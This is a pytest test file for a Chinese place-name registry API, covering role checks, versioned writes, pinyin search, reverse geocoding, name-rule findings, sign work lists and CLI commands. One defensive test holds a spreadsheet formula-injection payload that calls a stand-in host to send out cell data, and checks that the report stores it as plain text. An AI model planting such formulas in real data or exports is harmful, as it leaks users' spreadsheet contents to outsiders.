"""Place-name routes on the demo district: registry writes with ETags, roles, search, reverse, checks, signs.

Own database (the demo district, pinyin filled, one account per role): the writes here stay out of
the other API tests' way.
"""

from __future__ import annotations

import re
from collections import Counter
from io import BytesIO

import numpy as np
import pandas as pd
import pytest
import shapely
from api_fixture import PASSWORD, asgi_client, drain, fresh_database, make_settings
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.engine import make_url

from geo.crs import WGS84, transformer, utm_crs_for
from geo.placenames.tables import DATA_DIR
from layers import placenames, queries
from layers.db import session

ACCOUNTS = {
    "officer": "placename_officer",
    "planner": "planner",
    "gridworker": "grid_worker",
    "admin": "admin",
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(scope="module")
def pn_db(db_url, demo_district) -> str:
    from api.security import hash_password
    from layers import users
    from layers.load.demo import load_district

    url = fresh_database(db_url, make_url(db_url).database + "_pn_api")
    with session(url, actor="pytest") as s:
        load_district(s, demo_district)
        placenames.fill_pinyin(s)
        for username, role in ACCOUNTS.items():
            users.create(s, username=username, password_hash=hash_password(PASSWORD, rounds=4), role=role)
    return url


@pytest.fixture(scope="module")
def client(pn_db):
    from api.main import create_app

    with asgi_client(create_app(make_settings(), database_url=pn_db)) as c:
        yield c


@pytest.fixture(scope="module")
def as_(client):
    """``as_("officer")`` → bearer headers of that account; ``as_(None)`` → anonymous."""
    tokens = {
        u: client.post("/auth/token", data={"username": u, "password": PASSWORD}).json()["access_token"]
        for u in ACCOUNTS
    }

    def headers(username: str | None, **extra: str) -> dict[str, str]:
        return {**({"Authorization": f"Bearer {tokens[username]}"} if username else {}), **extra}

    return headers


def _id_of(client, name: str) -> int:
    hits = client.get("/placenames/search", params={"q": name}).json()
    return next(h["name_id"] for h in hits if h["name"] == name)


def _location(client, name: str) -> dict:
    hit = next(h for h in client.get("/placenames/search", params={"q": name}).json() if h["name"] == name)
    return {"lon": hit["lon"], "lat": hit["lat"]}


# -- roles -------------------------------------------------------------------------------------------


def test_public_reads_search_and_sign_text_but_cannot_write(client, as_):
    hits = client.get("/placenames/search", params={"q": "永济"}).json()
    assert hits[0]["name"] == "永济桥" and hits[0]["pinyin"] == "Yongji Qiao" and hits[0]["lon"] is not None
    sign = client.get(f"/placenames/{hits[0]['name_id']}/sign")
    assert sign.status_code == 200
    assert {k: sign.json()[k] for k in ("chinese", "pinyin", "proper", "generic")} == {
        "chinese": "永济桥",
        "pinyin": "Yongji Qiao",
        "proper": "永济",
        "generic": "桥",
    }
    assert (
        client.get("/placenames/pinyin", params={"name": "景山后街", "category": "road"}).json()["pinyin"]
        == "Jingshan Houjie"
    )
    assert client.get("/placenames/pinyin", params={"name": "人民路", "category": "nope"}).status_code == 422
    assert client.get("/placenames/pinyin", params={"name": "  "}).status_code == 400
    body = {"name": "晨曦路", "category": "road", **_location(client, "永济桥")}
    assert client.post("/placenames", json=body).status_code == 401
    for username in ("planner", "gridworker"):
        assert client.post("/placenames", json=body, headers=as_(username)).status_code == 403, username
    name_id = hits[0]["name_id"]
    for path in (f"/placenames/{name_id}/history", "/placenames/checks", "/placenames/signs/missing"):
        assert client.get(path).status_code == 401, path
        assert client.get(path, headers=as_("planner")).status_code == 403, path
        assert client.get(path, headers=as_("officer")).status_code == 200, path


# -- registry writes -------------------------------------------------------------------------------


def test_officer_registers_renames_changes_and_retires_with_history(client, as_, pn_db):
    body = {
        "name": "晨光路",
        "category": "road",
        "approval": "澄府地〔2026〕1号",
        **_location(client, "永济桥"),
    }
    created = client.post("/placenames", json=body, headers=as_("officer"))
    assert created.status_code == 201, created.text
    assert created.headers["ETag"] == '"1"'
    record = created.json()
    name_id = record["name_id"]
    assert created.headers["Location"] == f"/placenames/{name_id}"
    assert (record["pinyin"], record["proper"], record["generic"], record["findings"]) == (
        "Chenguang Lu",
        "晨光",
        "路",
        [],
    )

    rename = {"new_name": "曙光路", "approval": "澄府地〔2026〕2号"}
    r = client.post(
        f"/placenames/{name_id}/rename", json=rename, headers=as_("officer", **{"If-Match": '"1"'})
    )
    assert r.status_code == 200 and r.headers["ETag"] == '"2"' and r.json()["pinyin"] == "Shuguang Lu"
    again = client.post(
        f"/placenames/{name_id}/rename",
        json={**rename, "new_name": "旭光路"},
        headers=as_("officer", **{"If-Match": '"1"'}),
    )
    assert again.status_code == 412 and again.json()["error"]["code"] == "conflict"

    patch = client.patch(f"/placenames/{name_id}", json={"sign_present": True}, headers=as_("officer"))
    assert patch.status_code == 428
    patch = client.patch(
        f"/placenames/{name_id}", json={"sign_present": True}, headers=as_("officer", **{"If-Match": '"2"'})
    )
    assert (
        patch.status_code == 200 and patch.json()["sign_present"] is True and patch.headers["ETag"] == '"3"'
    )
    stale = client.patch(
        f"/placenames/{name_id}", json={"meaning": "x"}, headers=as_("officer", **{"If-Match": '"2"'})
    )
    assert stale.status_code == 412

    retired = client.post(
        f"/placenames/{name_id}/retire", json={"approval": "澄府地〔2026〕3号"}, headers=as_("admin")
    )
    assert retired.status_code == 200 and retired.json()["status"] == "historical"

    history = client.get(f"/placenames/{name_id}/history", headers=as_("officer")).json()
    assert [(h["action"], h["old_name"], h["new_name"], h["changed_by"]) for h in history] == [
        ("create", None, "晨光路", "officer"),
        ("rename", "晨光路", "曙光路", "officer"),
        ("update", None, "曙光路", "officer"),
        ("retire", "曙光路", None, "admin"),
    ]
    assert history[2]["before"]["sign_present"] is False and history[2]["after"]["sign_present"] is True
    with session(pn_db) as s:
        audit = s.execute(
            text(
                "SELECT actor, action FROM audit_log WHERE layer = 'place_names' AND object_id = :i "
                "ORDER BY audit_id"
            ),
            {"i": str(name_id)},
        ).all()
    assert [tuple(a) for a in audit] == [
        ("officer", "insert"),
        ("officer", "update"),
        ("officer", "update"),
        ("admin", "update"),
    ]


def test_the_old_name_is_still_found_as_historical(client, as_):
    body = {
        "name": "晚霞路",
        "category": "road",
        "approval": "澄府地〔2026〕4号",
        **_location(client, "文昌阁"),
    }
    name_id = client.post("/placenames", json=body, headers=as_("officer")).json()["name_id"]
    rename = {"new_name": "彩霞路", "approval": "澄府地〔2026〕5号"}
    assert (
        client.post(f"/placenames/{name_id}/rename", json=rename, headers=as_("officer")).status_code == 200
    )
    for q in ("晚霞", "wanxialu", "wxl"):
        hit = next(
            h for h in client.get("/placenames/search", params={"q": q}).json() if h["name_id"] == name_id
        )
        assert (hit["name"], hit["status"], hit["historical"], hit["current_name"], hit["pinyin"]) == (
            "晚霞路",
            "historical",
            True,
            "彩霞路",
            "Wanxia Lu",
        ), q
    current = client.get("/placenames/search", params={"q": "彩霞路"}).json()[0]
    assert (current["name_id"], current["status"], current["historical"]) == (name_id, "standard", False)


def test_bad_writes_are_4xx_with_a_fix(client, as_):
    where = _location(client, "永济桥")
    unknown = client.post(
        "/placenames", json={"name": "某路", "category": "nope", **where}, headers=as_("officer")
    )
    assert unknown.status_code == 422 and "categories.csv" in unknown.json()["error"]["message"]
    both = client.post(
        "/placenames",
        json={
            "name": "某路",
            "category": "road",
            **where,
            "geometry": {"type": "Point", "coordinates": [where["lon"], where["lat"]]},
        },
        headers=as_("officer"),
    )
    assert both.status_code == 422
    outside = client.post(
        "/placenames",
        json={"name": "某路", "category": "road", "lon": 100.0, "lat": 30.0},
        headers=as_("officer"),
    )
    assert outside.status_code == 422
    name_id = _id_of(client, "永济桥")
    no_approval = client.post(
        f"/placenames/{name_id}/rename", json={"new_name": "某桥", "approval": ""}, headers=as_("officer")
    )
    assert no_approval.status_code == 422
    bad_tag = client.patch(
        f"/placenames/{name_id}", json={"meaning": "x"}, headers=as_("officer", **{"If-Match": "x"})
    )
    assert bad_tag.status_code == 400 and bad_tag.json()["error"]["fix"]
    assert client.get("/placenames/987654321/sign").status_code == 404


def test_irregular_names_come_back_with_findings(client, as_):
    body = {"name": "威尼斯新城", "category": "estate", **_location(client, "文昌阁")}
    r = client.post("/placenames", json=body, headers=as_("officer"))
    assert r.status_code == 201  # flagged for review, never refused
    assert r.json()["approval"] == "待审批"  # registered without an approval record: pending, not approved
    assert {"foreign", "generic_oversize"} <= {f["code"] for f in r.json()["findings"]}


# -- search and reverse --------------------------------------------------------------------------


def test_search_demo_by_chinese_substring_full_pinyin_and_initials(client, demo_district):
    names = demo_district.place_names
    expected = set(names.loc[names["name"].str.contains("新华"), "name_id"])
    assert len(expected) >= 2
    assert {
        h["name_id"] for h in client.get("/placenames/search", params={"q": "新华", "limit": 100}).json()
    } == expected
    substring = client.get("/placenames/search", params={"q": "济桥"}).json()
    assert (substring[0]["name"], substring[0]["score"]) == ("永济桥", 1)
    for q, field in (("yongjiqiao", "pinyin"), ("Yǒngjì Qiáo", "pinyin"), ("yjq", "initials")):
        hits = client.get("/placenames/search", params={"q": q}).json()
        top = [h for h in hits if h["score"] == 3]
        assert "永济桥" in {h["name"] for h in top} and {h["match"] for h in top} == {field}, q
    # 新华路 and its planted homophone 新桦路 read alike: full pinyin finds both
    homophones = {
        h["name"]
        for h in client.get("/placenames/search", params={"q": "xinhualu"}).json()
        if h["score"] == 3
    }
    assert {"新华路", "新桦路"} <= homophones


def _sample_points(district, n: int, seed: int = 11) -> list[tuple[float, float]]:
    rng = np.random.default_rng(seed)
    x0, y0, x1, y1 = district.bounds
    out = []
    while len(out) < n:
        x, y = float(rng.uniform(x0, x1)), float(rng.uniform(y0, y1))
        if district.contains(shapely.Point(x, y)):
            out.append((x, y))
    return out


def test_reverse_gives_the_containing_grid_and_the_nearest_road(client, pn_db, demo_district):
    areas = demo_district.areas
    grids = areas[areas["level"] == "grid_small"]
    points = _sample_points(areas[areas["level"] == "district"].geometry.union_all(), 25)
    with session(pn_db) as s:
        edges = queries.edges(s)
        registry = queries.to_geoframe(
            queries.read_frame(
                s,
                "SELECT name, category, ST_AsBinary(geom) AS wkb FROM place_names "
                "WHERE status <> 'historical'",
            )
        )
    roads = pd.concat(
        [
            edges.loc[edges["name"].fillna("") != "", ["name", "geometry"]],
            registry.loc[registry["category"].isin(["trunk_road", "road", "lane"]), ["name", "geometry"]],
        ]
    )
    utm = utm_crs_for(*points[0])
    metric_roads = roads.set_crs(4326).to_crs(utm)
    to_utm = transformer(WGS84, utm)
    checked = 0
    for x, y in points:
        body = client.get("/reverse", params={"lon": x, "lat": y}).json()
        containing = grids.loc[grids.contains(shapely.Point(x, y)), "area_id"].tolist()
        assert ([body["grid"]["area_id"]] if body["grid"] else []) == containing, (x, y)
        dist = metric_roads.distance(shapely.Point(*to_utm.transform(x, y)))
        if dist.min() > 1000:
            assert body["road"] is None
            continue
        close = set(metric_roads.loc[dist <= dist.min() * 1.005 + 0.5, "name"])
        assert body["road"]["name"] in close, (x, y, body["road"], dist.min())
        assert body["road"]["distance_m"] == pytest.approx(dist.min(), rel=0.005, abs=0.5)
        checked += 1
    assert checked >= 10


# -- checks and signs ------------------------------------------------------------------------------


def test_checks_route_lists_the_planted_names(client, as_):
    listing = client.get("/placenames/checks", headers=as_("officer")).json()
    found = {c["name"]: c for c in listing}
    expected = {
        "曼哈顿广场": "foreign",
        "世界城": "exaggerated",
        "東湖路": "traditional",
        "皇庭御府": "odd",
        "EE新城": "latin_or_digit",
        "澄灣花园": "mixed_script",
        "金龙大道": "generic_oversize",
        "康凝街": "homophone",
        "翠苑": "duplicate",
        "𣒍坑": "rare_char",
    }
    for name, code in expected.items():
        assert code in {f["code"] for f in found[name]["findings"]}, name
        assert all(f["reason"] and f["rule"] for f in found[name]["findings"])
    assert "湴田" not in found and "㘭背" not in found and "永济桥" not in found
    foreign = client.get("/placenames/checks", params={"code": "foreign"}, headers=as_("officer")).json()
    assert foreign and {f["code"] for c in foreign for f in c["findings"]} == {"foreign"}

    xlsx = client.get("/placenames/checks.xlsx", headers=as_("admin"))
    assert xlsx.status_code == 200 and xlsx.headers["content-type"] == XLSX
    sheet = load_workbook(BytesIO(xlsx.content))["检查结果"]
    assert sheet.max_row - 1 == sum(len(c["findings"]) for c in listing)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_check_report_is_chinese_and_keeps_a_formula_name_as_text(client, as_, pn_db):
    """Issue 14 item 4: a place name that reads as a formula stays text in the downloaded report."""
    where = _location(client, "永济桥")
    with session(pn_db, actor="pytest") as s:
        created = placenames.create(
            s,
            name=HYPERLINK,
            category="road",
            geometry={"type": "Point", "coordinates": [where["lon"], where["lat"]]},
        )
    xlsx = client.get("/placenames/checks.xlsx", headers=as_("officer"))
    assert xlsx.status_code == 200
    book = load_workbook(BytesIO(xlsx.content))
    assert book.sheetnames == ["检查结果", "汇总"]
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["检查结果"]
    headers = [c.value for c in sheet[1]]
    assert headers == [
        "地名编号",
        "名称",
        "类别",
        "状态",
        "镇街",
        "区县",
        "法定范围",
        "问题",
        "依据",
        "说明",
        "处理方式",
    ]
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    mine = sheet.cell(row=2 + names.index(HYPERLINK), column=2)
    assert mine.value == HYPERLINK and mine.data_type == "s" and mine.quotePrefix
    # Chinese everywhere: no rule codes, English reasons or scope keys; widths fitted to the text
    codes = set(pd.read_csv(DATA_DIR / "rules.csv")["code"])
    text_cells = {str(c.value) for c in cells if c.row > 1 and c.value != HYPERLINK}
    assert not codes & text_cells
    assert not any(w in " ".join(text_cells) for w in ("scope", "county:", "city_or_town", "rank", "review"))
    assert all(sheet.column_dimensions[c.column_letter].width >= 2 * len(c.value) for c in sheet[1])
    assert [c.value for c in book["汇总"][1]] == ["问题", "发现数", "地名数"]
    with session(pn_db, actor="pytest") as s:
        placenames.retire(s, created.name_id, approval="澄府地〔2026〕99号")


def test_sign_work_list_equals_an_independent_filter(client, as_, pn_db):
    categories = pd.read_csv(DATA_DIR / "categories.csv", dtype=str)
    required = set(categories.loc[categories["sign_required"] == "1", "category"])
    listed = client.get("/placenames/signs/missing", headers=as_("officer")).json()
    with session(pn_db) as s:
        rows = pd.DataFrame(
            s.execute(text("SELECT name_id, category, sign_present, status FROM place_names"))
            .mappings()
            .all()
        )
    expected = rows[
        rows["category"].isin(required) & ~rows["sign_present"] & (rows["status"] != "historical")
    ]
    assert sorted(item["name_id"] for item in listed) == sorted(expected["name_id"])
    assert all(item["sign_chinese"] == item["name"] and item["sign_pinyin"] for item in listed)

    layer = client.get("/placenames/signs/missing", params={"format": "geojson"}, headers=as_("officer"))
    assert layer.headers["content-type"] == "application/geo+json"
    features = layer.json()["features"]
    assert [f["id"] for f in features] == [item["name_id"] for item in listed]
    assert {f["geometry"]["type"] for f in features} >= {"Point", "LineString"}

    book = client.get("/placenames/signs/missing", params={"format": "xlsx"}, headers=as_("officer"))
    assert load_workbook(BytesIO(book.content))["缺少地名标志"].max_row == len(listed) + 1


# -- CLI ---------------------------------------------------------------------------------------------


def test_cli_registry_commands(pn_db, monkeypatch, tmp_path, client):
    from typer.testing import CliRunner

    from api.cli.names import app

    monkeypatch.setenv("DATABASE_URL", pn_db)
    runner = CliRunner()
    where = _location(client, "文昌阁")
    added = runner.invoke(
        app,
        [
            "add",
            "启明路",
            "--category",
            "road",
            "--lon",
            str(where["lon"]),
            "--lat",
            str(where["lat"]),
            "--approval",
            "澄府地〔2026〕9号",
        ],
    )
    assert added.exit_code == 0, added.output
    assert "Qiming Lu" in added.output
    name_id = _id_of(client, "启明路")
    stale = runner.invoke(
        app, ["rename", str(name_id), "启航路", "--approval", "澄府地〔2026〕10号", "--version", "7"]
    )
    assert (
        stale.exit_code == 2
        and "changed since you read it" in stale.output
        and "Traceback" not in stale.output
    )
    assert (
        runner.invoke(
            app, ["rename", str(name_id), "启航路", "--approval", "澄府地〔2026〕10号", "--version", "1"]
        ).exit_code
        == 0
    )
    shown = runner.invoke(app, ["history", str(name_id)])
    assert (
        shown.exit_code == 0
        and "启明路" in shown.output
        and "启航路" in shown.output
        and "rename" in shown.output
    )
    report = tmp_path / "checks.xlsx"
    assert runner.invoke(app, ["check-registry", "--xlsx", str(report)]).exit_code == 0
    assert load_workbook(report).sheetnames == ["检查结果", "汇总"]
    signs = tmp_path / "signs.xlsx"
    assert runner.invoke(app, ["signs-missing", "--xlsx", str(signs)]).exit_code == 0
    assert load_workbook(signs)["缺少地名标志"].max_row > 100
    assert runner.invoke(app, ["retire", str(name_id), "--approval", "澄府地〔2026〕11号"]).exit_code == 0
    assert runner.invoke(app, ["retire", str(name_id), "--approval", "澄府地〔2026〕12号"]).exit_code == 2


def test_cli_find_gives_what_the_search_route_gives(pn_db, monkeypatch, client, as_):
    from typer.testing import CliRunner

    from api.cli.names import app

    monkeypatch.setenv("DATABASE_URL", pn_db)
    runner = CliRunner()
    body = {
        "name": "朝霞路",
        "category": "road",
        "approval": "澄府地〔2026〕30号",
        **_location(client, "文昌阁"),
    }
    name_id = client.post("/placenames", json=body, headers=as_("officer")).json()["name_id"]
    renamed = client.post(
        f"/placenames/{name_id}/rename",
        json={"new_name": "丹霞路", "approval": "澄府地〔2026〕31号"},
        headers=as_("officer"),
    )
    assert renamed.status_code == 200
    for query in ("永济", "yongjiqiao", "yjq", "朝霞", "zhaoxialu", "zxl", "丹霞"):
        route = client.get("/placenames/search", params={"q": query, "limit": 5}).json()
        assert route, query
        found = runner.invoke(app, ["find", query, "--limit", "5"], terminal_width=200)
        assert found.exit_code == 0, found.output
        # the same hits in the same order: each line of the table holds one name_id
        listed = [
            int(line.split("│")[1])
            for line in found.output.splitlines()
            if line.startswith("│") and line.split("│")[1].strip().isdigit()
        ]
        assert listed == [h["name_id"] for h in route], query
    former = runner.invoke(app, ["find", "朝霞路"], terminal_width=200)
    # the former name, with the current one
    assert "丹霞路" in former.output and "historical" in former.output
    assert "no match" in runner.invoke(app, ["find", "不存在的名字"]).output


def test_cli_reverse_gives_what_the_reverse_route_gives(pn_db, monkeypatch, client):
    from typer.testing import CliRunner

    from api.cli.names import app

    monkeypatch.setenv("DATABASE_URL", pn_db)
    runner = CliRunner()
    where = _location(client, "永济桥")
    route = client.get("/reverse", params=where).json()
    shown = runner.invoke(app, ["reverse", str(where["lon"]), str(where["lat"])], terminal_width=200)
    assert shown.exit_code == 0, shown.output
    assert route["road"]["name"] in shown.output and route["place_name"]["name"] in shown.output
    assert route["grid"]["name"] in shown.output and route["grid"]["worker_phone"] in shown.output
    outside = runner.invoke(app, ["reverse", "100.0", "30.0"])
    assert (
        outside.exit_code == 2
        and "outside the district" in outside.output
        and "Traceback" not in outside.output
    )


def test_cli_recompute_pinyin_after_a_table_edit(pn_db, monkeypatch, tmp_path, client, as_):
    from typer.testing import CliRunner

    from api.cli.names import app
    from geo.placenames.tables import use_overrides

    monkeypatch.setenv("DATABASE_URL", pn_db)
    runner = CliRunner()
    body = {
        "name": "石牌街",
        "category": "road",
        "approval": "澄府地〔2026〕32号",
        **_location(client, "文昌阁"),
    }
    created = client.post("/placenames", json=body, headers=as_("officer")).json()
    assert created["pinyin"] == "Shipai Jie"
    assert "up to date" in runner.invoke(app, ["recompute-pinyin", "--dry-run"]).output
    (tmp_path / "polyphones.csv").write_text("word,reading,note\n石牌,shi bai,local\n", encoding="utf-8")
    monkeypatch.setenv("MINQING_PLACENAME_TABLES", str(tmp_path))
    try:
        planned = runner.invoke(app, ["recompute-pinyin", "--dry-run"], terminal_width=200)
        assert planned.exit_code == 0, planned.output
        assert "Shipai Jie → Shibai Jie" in planned.output and "would change" in planned.output
        assert client.get(f"/placenames/{created['name_id']}").json()["pinyin"] == "Shipai Jie"
        done = runner.invoke(app, ["recompute-pinyin"], terminal_width=200)
        assert done.exit_code == 0 and "Shipai Jie → Shibai Jie" in done.output
    finally:
        monkeypatch.delenv("MINQING_PLACENAME_TABLES")
        use_overrides(None)
    record = client.get(f"/placenames/{created['name_id']}")
    assert (record.json()["pinyin"], record.headers["ETag"]) == ("Shibai Jie", '"2"')
    last = client.get(f"/placenames/{created['name_id']}/history", headers=as_("officer")).json()[-1]
    assert (last["action"], last["before"]["pinyin"], last["after"]["pinyin"]) == (
        "update",
        "Shipai Jie",
        "Shibai Jie",
    )
    assert last["changed_by"].startswith("cli:")


def test_generic_feature_writes_keep_the_registry_rules(client, as_):
    where = _location(client, "文昌阁")
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [where["lon"], where["lat"]]},
        "properties": {"name": "晨钟路", "category": "square"},
    }
    refused = client.post("/collections/place_names/items", json=feature, headers=as_("officer"))
    assert refused.status_code == 422 and "categories.csv" in refused.json()["error"]["message"]
    assert not [
        h for h in client.get("/placenames/search", params={"q": "晨钟路"}).json() if h["name"] == "晨钟路"
    ]
    feature["properties"]["category"] = "road"
    created = client.post("/collections/place_names/items", json=feature, headers=as_("officer"))
    assert created.status_code == 201, created.text
    name_id = created.json()["id"]
    record = client.get(f"/placenames/{name_id}")
    # pending, not approved
    assert (record.json()["approval"], record.json()["pinyin"]) == (
        "待审批",
        "Chenzhong Lu",
    )
    tag = client.get(f"/collections/place_names/items/{name_id}").headers["ETag"]
    bad = client.patch(
        f"/collections/place_names/items/{name_id}",
        json={"properties": {"category": "square"}},
        headers=as_("officer", **{"If-Match": tag}),
    )
    assert bad.status_code == 422 and "categories.csv" in bad.text
    assert client.get(f"/placenames/{name_id}").json()["category"] == "road"
    good = client.patch(
        f"/collections/place_names/items/{name_id}",
        json={"properties": {"category": "lane"}},
        headers=as_("officer", **{"If-Match": tag}),
    )
    assert good.status_code == 200, good.text


# -- review decisions and findings by rule ------------------------------------------------------------


def test_review_decision_route_roles_and_effect(client, as_):
    name_id = _id_of(client, "香榭丽舍")
    body = {"decision": "保留", "note": "经专家论证保留"}
    assert client.post(f"/placenames/{name_id}/review", json=body).status_code == 401
    for username in ("planner", "gridworker"):
        assert (
            client.post(f"/placenames/{name_id}/review", json=body, headers=as_(username)).status_code == 403
        )
    assert (
        client.post(
            f"/placenames/{name_id}/review", json={"decision": "通过"}, headers=as_("officer")
        ).status_code
        == 422
    )
    before = {c["name_id"] for c in client.get("/placenames/checks", headers=as_("officer")).json()}
    assert name_id in before
    done = client.post(f"/placenames/{name_id}/review", json=body, headers=as_("officer"))
    assert done.status_code == 200, done.text
    assert done.json()["decision"] == "保留" and "foreign" in done.json()["codes"]
    after = {c["name_id"] for c in client.get("/placenames/checks", headers=as_("officer")).json()}
    assert after == before - {name_id}
    clean = _id_of(client, "永济桥")
    assert client.post(f"/placenames/{clean}/review", json=body, headers=as_("officer")).status_code == 422


def test_findings_grouped_by_rule_match_the_per_name_list(client, as_):
    assert client.get("/placenames/checks/rules").status_code == 401
    assert client.get("/placenames/checks/rules", headers=as_("planner")).status_code == 403
    groups = client.get("/placenames/checks/rules", headers=as_("officer")).json()
    per_name = client.get("/placenames/checks", headers=as_("officer")).json()
    expected: dict[str, set[int]] = {}
    for c in per_name:
        for f in c["findings"]:
            expected.setdefault(f["code"], set()).add(c["name_id"])
    assert {g["code"]: {n["name_id"] for n in g["names"]} for g in groups} == expected
    assert all(g["count"] == len(g["names"]) for g in groups)
    assert [g["count"] for g in groups] == sorted((g["count"] for g in groups), reverse=True)
    assert {g["flag"] for g in groups} <= {"大", "洋", "怪", "重", "other"}


def test_sign_work_list_per_town_roles_and_xlsx(client, as_):
    assert client.get("/placenames/signs").status_code == 401
    assert client.get("/placenames/signs", headers=as_("planner")).status_code == 403
    rows = client.get("/placenames/signs", headers=as_("officer")).json()
    assert {r["sign_status"] for r in rows} <= {"待设置", "已设置", "待更换", "待拆除"}
    down = [r for r in rows if r["sign_status"] == "待拆除"]
    assert "鹭田墟巷" in {r["name"] for r in down}
    assert client.get("/placenames/signs", params={"status": "拆"}, headers=as_("officer")).status_code == 400
    book = load_workbook(
        BytesIO(client.get("/placenames/signs", params={"format": "xlsx"}, headers=as_("admin")).content)
    )
    towns = {r["town"] or "未定镇街" for r in rows}
    assert set(book.sheetnames) == towns
    assert sum(ws.max_row - 1 for ws in book.worksheets) == len(rows)
    assert [c.value for c in book.worksheets[0][1]][:3] == ["编号", "标准名称", "标志状态"]


def test_heritage_register_roles_export_and_rename_flag(client, as_):
    assert client.get("/placenames/heritage").status_code == 401
    assert client.get("/placenames/heritage", headers=as_("planner")).status_code == 403
    rows = client.get("/placenames/heritage", headers=as_("officer")).json()
    names = {r["name"] for r in rows}
    assert {"上林", "盐埠老街", "文昌阁"} <= names
    book = load_workbook(
        BytesIO(client.get("/placenames/heritage", params={"format": "xlsx"}, headers=as_("officer")).content)
    )
    sheet = book["地名文化遗产保护名录"]
    assert sheet.max_row - 1 == len(rows) and [c.value for c in sheet[1]][:2] == ["编号", "名称"]
    lane = next(r for r in rows if r["name"] == "盐埠老街")
    refused = client.post(
        f"/placenames/{lane['name_id']}/rename",
        headers=as_("officer"),
        json={"new_name": "盐埠新街", "approval": "澄府地〔2026〕40号"},
    )
    assert refused.status_code == 409 and "heritage_review" in refused.text


def test_cli_review_and_sign_work_list(pn_db, monkeypatch, tmp_path, client, as_):
    from typer.testing import CliRunner

    from api.cli.names import app

    monkeypatch.setenv("DATABASE_URL", pn_db)
    runner = CliRunner()
    name_id = _id_of(client, "维也纳小区")
    bad = runner.invoke(app, ["review", str(name_id), "--decision", "通过"])
    assert bad.exit_code != 0 and "保留" in bad.output
    done = runner.invoke(app, ["review", str(name_id), "--decision", "整改", "--note", "限期更名"])
    assert done.exit_code == 0, done.output
    assert "整改" in done.output and "崇洋媚外" in done.output and "foreign" not in done.output
    flagged = {c["name_id"]: c for c in client.get("/placenames/checks", headers=as_("officer")).json()}
    assert flagged[name_id]["review"] == "整改"  # still flagged, marked
    out = tmp_path / "signs.xlsx"
    shown = runner.invoke(app, ["signs", "--status", "待拆除", "--xlsx", str(out)], terminal_width=200)
    assert shown.exit_code == 0, shown.output
    assert "鹭田墟巷" in shown.output and "待拆除" in shown.output
    route = client.get("/placenames/signs", params={"status": "待拆除"}, headers=as_("officer")).json()
    book = load_workbook(out)
    assert sum(ws.max_row - 1 for ws in book.worksheets) == len(route)
    assert runner.invoke(app, ["signs", "--status", "拆"]).exit_code != 0


# -- printable sign sheets (PDF) -------------------------------------------------------------------------


def _pdf_text(body: bytes, tmp_path) -> str:
    """The PDF's text as poppler's pdftotext reads it (pages separated by form feeds)."""
    import subprocess

    path = tmp_path / "sheets.pdf"
    path.write_bytes(body)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout


def _printable(text: str) -> str:
    """``text`` without spaces and without the characters the PDF font cannot draw (shown as boxes)."""
    from matplotlib.ft2font import FT2Font

    from pipeline.reports import REPORT_FONT

    drawn = set(FT2Font(str(REPORT_FONT)).get_charmap())
    return "".join(c for c in text if not c.isspace() and (ord(c) in drawn or ord(c) < 128))


def test_sign_sheets_pdf_list_every_sign_of_the_town(client, as_, tmp_path):
    params = {"status": "待设置", "format": "pdf"}
    assert client.get("/placenames/signs", params=params).status_code == 401
    assert client.get("/placenames/signs", params=params, headers=as_("planner")).status_code == 403
    assert client.get("/placenames/signs", params=params, headers=as_("gridworker")).status_code == 403
    town, _count, todo = _smallest_town(client, as_)
    r = client.get("/placenames/signs", params={**params, "town": town}, headers=as_("officer"))
    assert (
        r.status_code == 200 and r.headers["content-type"] == "application/pdf" and r.content[:5] == b"%PDF-"
    )
    _assert_sheets_of_town(_pdf_text(r.content, tmp_path), town, todo)


def _smallest_town(client, as_) -> tuple[str, int, list[dict]]:
    """The 镇街 with the fewest signs 待设置 (at least one), their number, and every sign 待设置."""
    todo = client.get("/placenames/signs", params={"status": "待设置"}, headers=as_("officer")).json()
    towns = Counter(r["town"] for r in todo if r["town"])
    town, count = min(towns.items(), key=lambda kv: kv[1])
    return town, count, todo


def _assert_sheets_of_town(text: str, town: str, todo: list[dict]) -> None:
    """The sheets (pdftotext) hold every sign 待设置 of ``town``, 18 a page, and none of another town."""
    mine = [row for row in todo if row["town"] == town]
    pages = text.rstrip("\f").split("\f")
    assert len(pages) == -(-len(mine) // 18)  # 18 signs a page
    assert all(f"{town} 地名标志工作单（待设置）" in p for p in pages)
    flat = _printable(text)
    missing = [
        row["sign_chinese"]
        for row in mine
        if _printable(row["sign_chinese"]) not in flat or _printable(row["sign_pinyin"] or "") not in flat
    ]
    assert not missing, missing
    assert flat.count("待设置") >= len(mine)  # every row's status (plus the headings)
    # No sign of another town is on its sheets.
    others = {row["name"] for row in todo if row["town"] != town} - {row["name"] for row in mine}
    assert not [n for n in others if len(n) > 2 and f"·{n}" in flat]


def test_whole_district_sheets_are_not_drawn_in_the_request(client, as_):
    r = client.get("/placenames/signs", params={"format": "pdf"}, headers=as_("officer"))
    assert r.status_code == 413, r.text
    body = r.text
    assert "POST /placenames/signs/jobs" in body
    plan = client.get("/placenames/signs", headers=as_("officer")).json()
    towns = Counter(row["town"] or "未定镇街" for row in plan)
    assert r.json()["error"]["details"]["pages"] == sum(-(-n // 18) for n in towns.values())


def test_sign_sheets_job_roles_progress_and_pdf(client, as_, pn_db, tmp_path):
    url = "/placenames/signs/jobs"
    town, count, todo = _smallest_town(client, as_)
    params = {"town": town, "status": "待设置"}
    assert client.post(url, params=params).status_code == 401
    assert client.post(url, params=params, headers=as_("planner")).status_code == 403
    assert client.post(url, params=params, headers=as_("gridworker")).status_code == 403
    r = client.post(url, params=params, headers=as_("officer"))
    assert r.status_code == 202, r.text
    job = r.json()
    assert r.headers["Location"] == f"{url}/{job['job_id']}"
    assert (
        job["status"] == "queued"
        and job["pdf"] is None
        and job["town"] == town
        and job["sign_status"] == "待设置"
    )
    # Asked again while it waits: the same job, nothing more to draw.
    assert client.post(url, params=params, headers=as_("admin")).json()["job_id"] == job["job_id"]
